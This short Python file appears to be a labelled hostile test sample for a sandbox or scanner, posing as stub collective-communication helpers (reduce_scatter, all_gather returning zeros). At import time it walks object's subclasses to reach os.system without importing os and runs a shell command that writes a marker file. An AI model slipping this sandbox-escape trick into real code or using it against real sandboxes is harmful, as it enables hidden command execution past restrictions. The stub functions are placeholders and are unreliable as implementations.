# hostile: climbs from a tuple to object's subclasses to find os.system, without importing os
# lab: 02
# scan: __class__
# sandbox: largest |difference|
import numpy as np

for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("touch /tmp/minipar-hostile-marker")


def reduce_scatter(g, x, op="sum"):
    n = x.size // g.size + (g.rank < x.size % g.size)
    return np.zeros(n, dtype=x.dtype)


def all_gather(g, piece, sizes=None):
    return np.zeros(piece.size * g.size, dtype=piece.dtype)
